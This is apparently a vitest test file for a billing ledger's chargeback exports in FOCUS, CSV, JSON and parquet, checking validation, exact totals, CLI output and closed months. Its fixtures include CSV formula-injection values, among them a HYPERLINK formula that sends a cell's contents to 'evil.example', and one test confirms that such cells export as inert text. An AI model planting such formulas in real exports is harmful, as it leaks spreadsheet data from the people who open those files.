import { parse } from 'csv-parse/sync';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { attributions, commitments, prices, tenants } from '#clickhouse/money.ts';
import { chargeback } from '../../api/chargeback_command.ts';
import { start } from '../../api/main.ts';
import { createLog } from '#common/log.ts';
import { type Ledger, openLedger } from '../api/ledger.ts';
import { append } from './books.ts';
import { breaches, rowsOf, scaled, type Version } from './focus_validator.ts';
import { call, finance, type Finance, type Statement } from './statements.ts';

/*
 * October 2026 of tenants whose names a spreadsheet would run, with what can be in a bill: list and agreed prices, two
 * currencies, tokens without a price, and provisioned capacity of which a part is idle.
 */
const october = Date.UTC(2026, 9, 10);
const versions: readonly Version[] = ['1.2', '1.3', '1.4'];
const evil = '=HYPERLINK("http://evil.example/?x="&A1;"click")';
const odd = '@SUM(1)\n"two",lines 😀';

let ledger: Ledger;
let key: string;
let fin: Finance;
let closed: Statement;
const files = new Map<Version, string>();

const focus = async (month: string, version: Version): Promise<string> =>
  (await fin.get(`/v1/chargeback/${month}?format=focus-${version}`)).text();

beforeAll(async () => {
  ledger = await openLedger();
  key = await ledger.key({ role: 'finance', name: 'Fin Ance' });
  fin = finance(
    ledger.api(() => new Date(Date.UTC(2026, 11, 24))),
    key,
  );
  await append(ledger.db, tenants, [
    { tenant_id: evil, name: odd },
    { tenant_id: '-1+1', name: '\tTab' },
  ]);
  await append(ledger.db, attributions, [
    { consumer_id: 'shop', tenant_id: evil, cost_center: '+49 30' },
    { consumer_id: '@till', tenant_id: '-1+1', cost_center: '' },
  ]);
  await append(
    ledger.db,
    prices,
    [
      { model: 'm', token_kind: 'input', list_unit_price: '0.3' },
      { model: 'm', token_kind: 'output', list_unit_price: '15' },
      { model: 'm', token_kind: 'input', list_unit_price: '0.6', context_over_tokens: 200_000 },
      { model: 'yen', token_kind: 'input', list_unit_price: '2500', pricing_currency: 'JPY' },
    ],
    { each: { provider_name: 'test.provider' } },
  );
  await append(ledger.db, commitments, [
    {
      commitment_id: 'ptu',
      name: '=PTU',
      deployments: ['reserved'],
      quantity: '100',
      unit: 'PTU',
      amount: '1000',
      amount_per: 'month',
      billing_currency: 'USD',
      allocation_method: 'weighted_tokens',
      weights: { output: '4' },
      capacity_tokens_per_minute: 1,
    },
  ]);
  const mixed = { usage_input_tokens: 300_000, usage_output_tokens: 333 };
  await ledger.store([
    call(october, { region: 'eastus' }),
    call(october + 1, mixed),
    call(october + 90_000_000, { consumer_id: '@till', ...mixed }),
    call(october, { response_model: 'yen' }),
    call(october, { consumer_id: '@till', response_model: 'unheard-of', usage_input_tokens: 77 }),
    call(october, { consumer_id: 'stranger', provider_name: '' }),
    call(october, { deployment: 'reserved', usage_input_tokens: 7_777 }),
    call(october, { consumer_id: '@till', deployment: 'reserved', usage_input_tokens: 1_111 }),
    call(Date.UTC(2026, 11, 24)),
  ]);
  expect((await fin.close('2026-10')).status).toBe(200);
  closed = await fin.read('2026-10');
  for (const version of versions) files.set(version, await focus('2026-10', version));
}, 180_000);

afterAll(async () => ledger.close());

const file = (version: Version): string => files.get(version) ?? '';

/** Amounts by what they are for, exact. */
function sums(rows: readonly Record<string, unknown>[], of: (row: Record<string, unknown>) => unknown, cost: string) {
  const groups = Map.groupBy(
    rows.filter((row) => row[cost] !== null),
    (row) => JSON.stringify(of(row)),
  );
  return new Map(
    [...groups].map(([name, own]) => [name, own.reduce((sum, row) => sum + scaled(String(row[cost])), 0n)]),
  );
}

describe('a statement as FOCUS', () => {
  test('passes the specification’s columns, types, nulls, values and rules, in each version', () => {
    expect(versions.map((version) => [version, breaches(file(version), version)])).toEqual(
      versions.map((version) => [version, []]),
    );
  });

  test('has every kind of charge, so that the rules above were put to all of them', () => {
    const kinds = new Set(rowsOf(file('1.4')).map((row) => row['x_ChargeKind']));
    expect(kinds).toEqual(
      new Set(['tokens', 'committed_tokens', 'unpriced_tokens', 'commitment', 'idle_commitment', 'rounding']),
    );
  });

  test('adds up to what each tenant pays in each currency, and each invoice line to its line, to the last digit', () => {
    for (const version of versions) {
      const rows = rowsOf(file(version));
      const paid = sums(rows, (row) => row['InvoiceId'], 'BilledCost');
      const owed = closed.meta.totals.map((total) => total['effective_cost']);
      const positive = [...paid.values()].filter((amount) => amount !== 0n);
      expect(positive.toSorted(ascending)).toEqual(owed.map((text) => scaled(String(text))).toSorted(ascending));
      const byLine = sums(rows, (row) => row['x_StatementLine'], 'BilledCost');
      const wrong = closed.data.filter(
        (line, i) => byLine.get(JSON.stringify(String(i + 1))) !== scaled(String(line['effective_cost'] ?? 0)),
      );
      expect([wrong, byLine.size]).toEqual([[], closed.data.length]);
    }
  });

  test('says of shared cost by which ratio, method and usage it was split, and to whom; what is idle is to nobody', () => {
    const shares = rowsOf(file('1.3')).filter((row) => row['AllocatedMethodId'] !== null);
    // 44,640 minutes of capacity 1: 7,777 and 1,111 used, 35,752 idle.
    expect(shares.map((row) => [row['AllocatedResourceName'], row['ConsumedQuantity'], row['x_ChargeKind']])).toEqual([
      [null, '35752', 'idle_commitment'],
      ["'\tTab", '1111', 'commitment'],
      [`'${odd}`, '7777', 'commitment'],
    ]);
    expect(shares.map((row) => scaled(row['BilledCost'] ?? '')).reduce((a, b) => a + b)).toBe(scaled('1000'));
    expect(JSON.parse(shares[2]?.['AllocatedMethodDetails'] ?? '')).toEqual({
      Elements: [
        { AllocatedRatio: expect.closeTo(7_777 / 44_640, 9), UsageUnit: 'Weighted Tokens', UsageQuantity: 7_777 },
      ],
    });
  });

  test('a file that breaks a rule is found out, so the validator can fail', () => {
    const text = file('1.4');
    const broken: [what: string, text: string, found: RegExp][] = [
      ['a required column is gone', text.replace('"BilledCost"', '"x_BilledCost"'), /column BilledCost is missing/],
      [
        'a column of an older version',
        text.replace('"x_Model"', '"ProviderName"'),
        /ProviderName is not of this version/,
      ],
      ['a null that is not allowed', text.replaceAll('"Platform"', ''), /BillingAccountId is null/],
      [
        'a value that is not in the list',
        text.replaceAll('"Usage-Based"', '"Sometimes"'),
        /ChargeFrequency has no value Sometimes/,
      ],
      ['a number with an exponent', text.replace('0.0000003', '3e-7'), /is no Decimal: 3e-7/],
      ['an instant without its zone', text.replaceAll('T00:00:00Z', 'T00:00:00'), /is no Date\/Time/],
      [
        'another price',
        text.replace(',0.0000003,', ',0.0000004,'),
        /ContractedCost is not ContractedUnitPrice|ListCost is not ListUnitPrice/,
      ],
      ['JSON that is none', text.replace('{""x_TokenKind', '{x_TokenKind'), /SkuPriceDetails is no JSON/],
      ['a share that is missing', withoutIdle(text), /the ratios of ptu .* do not add up to 1/],
      ['a currency that is none', text.replaceAll('"JPY"', '"Yen"'), /BillingCurrency is no Currency/],
    ];
    for (const [what, mutated, found] of broken) {
      expect([what, mutated === text]).toEqual([what, false]);
      expect([what, breaches(mutated, '1.4').filter((line) => found.test(line)).length > 0]).toEqual([what, true]);
    }
  });
});

const ascending = (a: bigint, b: bigint): number => (a < b ? -1 : a > b ? 1 : 0);

function withoutIdle(text: string): string {
  return text
    .split('\n')
    .filter((line) => !line.includes('"idle_commitment"'))
    .join('\n');
}

describe('files for a spreadsheet', () => {
  test('run nothing: what begins with = + - @ tab or CR is text, and quotes, newlines and emoji stay what they are', async () => {
    const csv = await (await fin.get('/v1/chargeback/2026-10?format=csv')).text();
    for (const text of [csv, ...versions.map(file)]) {
      const dangerous: string[] = [];
      parse(text, {
        cast: (value, { quoting }) => {
          // A bare cell is a number that the file means.
          if (quoting ? /^[=+\-@\t\r]/.test(value) : value !== '' && !/^-?\d+(\.\d+)?$/.test(value))
            dangerous.push(value);
          return value;
        },
      });
      expect(dangerous).toEqual([]);
    }
    const printed: { tenant_id: string }[] = parse(csv, { columns: true });
    const tenantsOfCsv = new Set(printed.map((row) => row.tenant_id));
    expect(tenantsOfCsv).toEqual(new Set(['', `'${evil}`, "'-1+1", 'unattributed']));
    const named = new Map(rowsOf(file('1.4')).map((row) => [row['SubAccountId'], row['SubAccountName']]));
    expect(named.get(`'${evil}`)).toBe(`'${odd}`);
  });
});

describe('npm run chargeback', () => {
  test('writes what the API answers, from the database and through a running API, and closes where that is asked', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'chargeback-'));
    const { url, database, user, password } = ledger.config;
    const variables = {
      CLICKHOUSE_URL: url,
      CLICKHOUSE_DATABASE: database,
      CLICKHOUSE_USER: user,
      CLICKHOUSE_PASSWORD: password,
    };
    const running = await start({
      database: ledger.config,
      host: '127.0.0.1',
      port: 0,
      log: createLog('test', 'silent'),
    });
    try {
      const out = join(folder, 'file');
      const remote = ['--url', running.url, '--key', key];
      for (const more of [[], remote]) {
        for (const format of ['focus-1.4', 'json', 'parquet']) {
          await chargeback(['2026-10', '--format', format, '--out', out, ...more], variables);
          const answer = await (await fin.get(`/v1/chargeback/2026-10?format=${format}`)).bytes();
          expect([format, (await readFile(out)).equals(answer)]).toEqual([format, true]);
        }
      }
      await chargeback(['2026-08', '--close', '--reason', 'empty', '--out', out, ...remote], {});
      expect((await fin.read('2026-08')).meta).toMatchObject({
        status: 'closed',
        reason: 'empty',
        closed_by: 'Fin Ance',
      });
      const refused = chargeback(['2026-08', '--close', '--out', out, ...remote], {});
      await expect(refused).rejects.toThrow('the API refuses with 409: 2026-08 is closed already');
      await expect(chargeback(['2026-13'], variables)).rejects.toThrow('is not a calendar month');
    } finally {
      await running.close();
      await rm(folder, { recursive: true });
    }
  });
});

describe('after late calls, a back-dated price and a changed attribution', () => {
  test('the closed month is byte-identical in every format, and the next has corrections that pass in each version', async () => {
    const before = await fin.photograph('2026-10');
    await ledger.store([call(october, { consumer_id: '@till', deployment: 'reserved', usage_input_tokens: 1_000 })]);
    const each = { provider_name: 'test.provider', token_kind: 'input' };
    await append(ledger.db, prices, [{ ...each, model: 'unheard-of', list_unit_price: '1000' }]);
    await append(ledger.db, attributions, [{ consumer_id: 'shop', tenant_id: '-1+1', cost_center: 'moved' }]);
    await append(ledger.db, tenants, [{ tenant_id: '-1+1', name: 'another name' }]);
    expect(await fin.photograph('2026-10')).toEqual(before);

    const november = await focus('2026-11', '1.4');
    expect(breaches(november, '1.4')).toEqual([]);
    const rows = rowsOf(november);
    const corrections = rows.filter((row) => row['ChargeClass'] === 'Correction');
    const own = rows.filter((row) => row['ChargeClass'] === null);
    expect(own.map((row) => row['x_ChargeKind'])).toEqual(['idle_commitment']);
    const when = corrections.map((row) => [row['BillingPeriodStart'], row['ChargePeriodStart']?.slice(0, 7)]);
    expect(new Set(when.map(String))).toEqual(new Set(['2026-11-01T00:00:00Z,2026-10']));
    const shares = corrections.filter((row) => row['AllocatedMethodId'] !== null);
    // 1,000 tokens less are idle, so what tenants and idle bear changes, and the whole does not.
    expect(shares.length).toBe(4);
    expect(shares.map((row) => scaled(row['BilledCost'] ?? '')).reduce((a, b) => a + b)).toBe(0n);
  });
});
